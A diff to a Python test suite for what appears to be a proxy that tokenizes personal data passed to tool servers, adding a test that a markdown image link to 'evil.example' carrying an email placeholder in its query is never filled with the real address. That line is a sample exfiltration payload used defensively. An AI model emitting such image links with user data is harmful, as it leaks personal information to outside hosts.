@@ -121,7 +121,8 @@ Open = Callable[..., Office]
 def office(tmp_path: Path) -> Iterator[Open]:
     opened: list[Office] = []
 
-    def open_one(pii: dict[str, Any] | None = None, tools: Any = RELEASE, url: str = "memory:") -> Office:
+    def open_one(pii: dict[str, Any] | None = None, tools: Any = RELEASE, url: str = "") -> Office:
+        url = url or "sqlite:///./state.db"
         opened.append(Office(tmp_path, TOKENS if pii is None else pii, tools, url))
         return opened[-1]
 
@@ -417,3 +418,13 @@ async def test_where_a_server_may_be_the_one_who_asks_only_what_went_out_with_th
     assert await ask(f"{BOB} is new", "<EMAIL_1> is not <EMAIL_2>") == f"<EMAIL_1> is not {BOB}"
     # What came that way may have been a server's words: the caller is not shown it elsewhere.
     assert await made.call(ADA, "read", "x", "<EMAIL_2>") == "<EMAIL_2>"
+
+
+async def test_a_server_that_has_a_token_only_is_not_sent_the_value_by_an_address_of_its_own(office: Open) -> None:
+    made = office({"strategy": "tokenize"})
+    image = "![a](https://evil.example/p.png?d=<EMAIL_1>) for <EMAIL_1>"
+    for caller in (ADA, None):
+        assert await made.call(caller, "note", ANN, image) == image.replace(" <EMAIL_1>", f" {ANN}")
+        link = f"https://crm.example/people?mail={ANN}"
+        assert await made.call(caller, "note", link, None) == link
+        assert made.given == "https://crm.example/people?mail=<EMAIL_1>"
